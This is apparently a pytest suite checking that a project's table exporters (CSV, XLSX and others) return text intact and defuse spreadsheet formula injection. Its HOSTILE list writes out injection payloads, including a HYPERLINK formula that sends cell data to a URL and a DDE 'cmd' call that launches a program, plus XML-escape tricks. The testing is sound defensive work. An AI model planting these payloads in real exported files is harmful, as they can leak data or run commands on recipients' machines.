"""What every file format promises, tried on each that is registered.

A new format needs one reader in format_readers, and nothing else.
"""

import csv
import io
import re
import zipfile
from datetime import date

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from engage.results.formats import FORMATS
from engage.results.tables import Column, Kind, Table
from tests.contracts.format_readers import reader_of

HOSTILE = [
    '=HYPERLINK("http://example.org?"&A1,"see")',
    "=1+1",
    "+1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200f\u202b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹢1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "'",
    "“=1+1”",
    "=cmd|' /C calc'!A0",
    'x",=1+1,"y',
    "x;=1+1",
    "x\r\n=1+1",
    "<r></t></is></c><c><f>1+1</f><v>2</v></c><c><is><t></r>",
    "<r>bold</r>",
    "<b>&amp;</b>",
    "_x0041__x003D_",
    "https://example.org/",
    "#REF!",
    "null",
    "\\",
    "\\;",
    "; ",
    "%s {0} {{ x }}",
    "]]>",
    "\x01\x08\x0b\x0c\x1f\x7f",
    "\ufffe\uffff",
]
SCRIPTS = [
    "نريد مقاعد أكثر في الحديقة، من فضلكم ٣",
    "ሰላም፡ ለሁሉም፡ ይሁን።",
    "আমাদের পাড়ায় একটি পার্ক চাই",
    "ਸਾਨੂੰ ਬੱਸ ਚਾਹੀਦੀ ਹੈ",
    "Автобус щочетверга, ґанок, їжак",
    "Nguyễn Thị Ánh Tuyết muốn đường đi bộ",
    "Ștefan și Ioana, Ţara",
    "Le ćhave kamen jekh than",
    "👩🏾‍🦽🏴󠁧󠁢󠁷󠁬󠁳󠁿 🤟🏿",
    "e\u0301 é",
    "line one\nline two\n\nline four ",
    " leading and trailing ",
    "-5",
    "+447700900000",
    "00123",
    "TRUE",
]
KINDS = {
    Kind.TEXT: ["plain", None, ""],
    Kind.CODE: ["007", "-7", "yes"],
    Kind.NUMBER: [-5, 0.1, 0],
    Kind.INTEGER: [-(10**14), 123_456_789_012_345_678, 3],
    Kind.DAY: [date(2026, 11, 23), date(1901, 1, 1), date(1850, 6, 2)],
    Kind.BOOLEAN: [True, False, None],
    Kind.LIST: [["bus", "walk"], ["a;b", "c\\", "=1", "; "], []],
}


def written(format_, *tables):
    target = io.BytesIO()
    format_.write(tables, target)
    assert not target.closed
    return target.getvalue()


every_format = pytest.mark.parametrize("format_", FORMATS, ids=lambda format_: format_.key)


def assert_comes_back(format_, table, rows):
    read, forced = reader_of(format_.key)
    headings, found = read(written(format_, table), [column.kind for column in table.columns])

    def settled(value):
        if isinstance(value, list):
            return [forced(item) for item in value] or None
        return (forced(value) if isinstance(value, str) else value) or (None if value in ("", None) else value)

    assert headings == [forced(heading) for heading in table.headings]
    padding = [[None] * len(table.columns)] * (len(rows) - len(found))
    assert [[settled(v) for v in row] for row in [*found, *padding]] == [[settled(v) for v in row] for row in rows]


def texts(values, title="Words"):
    return Table("words", title, (Column("number", "Number", Kind.INTEGER), Column("text", title)), enumerated(values))


def enumerated(values):
    return [[number, value] for number, value in enumerate(values)]


@every_format
@pytest.mark.parametrize("values", [HOSTILE, SCRIPTS], ids=["hostile", "scripts"])
def test_texts_come_back_as_they_were(format_, values):
    assert_comes_back(format_, texts(values), enumerated(values))


@every_format
def test_headings_come_back_as_they_were_and_no_two_are_alike(format_):
    titles = [*HOSTILE, *SCRIPTS, "Why?", "Why?"]
    table = Table("t", "=1+1", tuple(Column(f"c{n}", title) for n, title in enumerate(titles)), [])
    assert len(set(table.headings)) == len(titles)
    assert_comes_back(format_, table, [])
    distinct = Table("t", "=1+1", tuple(Column(f"c{n}", title) for n, title in enumerate(titles[:-1])), [])
    assert distinct.headings == tuple(titles[:-1])
    assert_comes_back(format_, distinct, [])


@every_format
def test_values_of_every_kind_come_back(format_):
    columns = tuple(Column(kind.value, kind.value.title(), kind) for kind in KINDS)
    rows = [list(row) for row in zip(*KINDS.values(), strict=True)]
    assert {column.kind for column in columns} == set(Kind)
    assert_comes_back(format_, Table("kinds", "Kinds", columns, rows), rows)


@every_format
def test_an_empty_table_still_has_its_headings(format_):
    assert_comes_back(format_, texts([]), [])


@every_format
@pytest.mark.parametrize("sign", ["x", "ب", "😀", "=", "<r>"])
def test_long_texts_lose_nothing(format_, sign):
    values = [sign * 32_767, sign * 32_768, sign * 70_000 + "end", "short"]
    assert_comes_back(format_, texts(values), enumerated(values))


@every_format
@settings(max_examples=150, deadline=None, derandomize=True)
@given(value=st.text(min_size=1))
@example(value="'\ufeff=")
@example(value="_x005F_x0041_")
def test_any_text_comes_back(format_, value):
    assert_comes_back(format_, texts([value]), enumerated([value]))


@every_format
def test_half_a_sign_breaks_nothing(format_):
    assert "before" in str(
        reader_of(format_.key)[0](written(format_, texts(["before \ud800"])), [Kind.INTEGER, Kind.TEXT])
    )


@every_format
def test_rows_are_read_once_and_files_are_alike(format_):
    rows = enumerated(SCRIPTS)
    once = iter(rows)
    table = texts([])
    streamed = Table(table.key, table.title, table.columns, once)
    first = written(format_, streamed)
    assert next(once, None) is None
    assert first == written(format_, texts(SCRIPTS))


@every_format
def test_a_row_that_does_not_fit_is_refused(format_):
    for row in ([1], ["1", "a"], [1, 2], [True, "a"], [float("nan"), "a"]):
        table = texts([])
        with pytest.raises(ValueError, match="row 1 of 'words'"):
            written(format_, Table(table.key, table.title, table.columns, [row]))


@every_format
def test_further_tables_are_kept_where_the_format_holds_several(format_):
    marks = [f"mark-{n}" for n in range(3)]
    data = written(format_, *(texts([mark], title="Same") for mark in marks))
    if zipfile.is_zipfile(io.BytesIO(data)):
        packed = zipfile.ZipFile(io.BytesIO(data))
        data = b"".join(packed.read(name) for name in packed.namelist())
    found = [mark for mark in marks if mark.encode() in data]
    assert found == (marks if format_.holds_several else marks[:1])


def test_formats_are_told_apart():
    for name in ("key", "label", "extension", "media_type"):
        assert len({getattr(format_, name) for format_ in FORMATS}) == len(FORMATS)


def test_no_cell_of_a_workbook_is_a_formula_or_a_link():
    data = written(FORMATS.get("xlsx"), texts(HOSTILE, title="=1+1"), texts(HOSTILE, title="'=[1+1]"))
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"n", "s"}
    assert not any(cell.hyperlink for cell in cells)
    assert all(cell.quotePrefix for cell in cells if str(cell.value).lstrip().startswith(("=", "+", "-", "@")))
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert not any(re.search(rb"<f[ >]", archive.read(name)) for name in archive.namelist() if "worksheets" in name)


def test_no_cell_of_a_csv_file_begins_like_a_formula():
    data = written(FORMATS.get("csv"), texts(HOSTILE, title="=1+1")).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row[1:]]
    assert len(cells) == len(HOSTILE) + 1
    assert not any(re.match(r"[\s\0\ufeff\u200f\u202b\"“]*[=+\-@＝＋－＠﹢]", cell) for cell in cells)
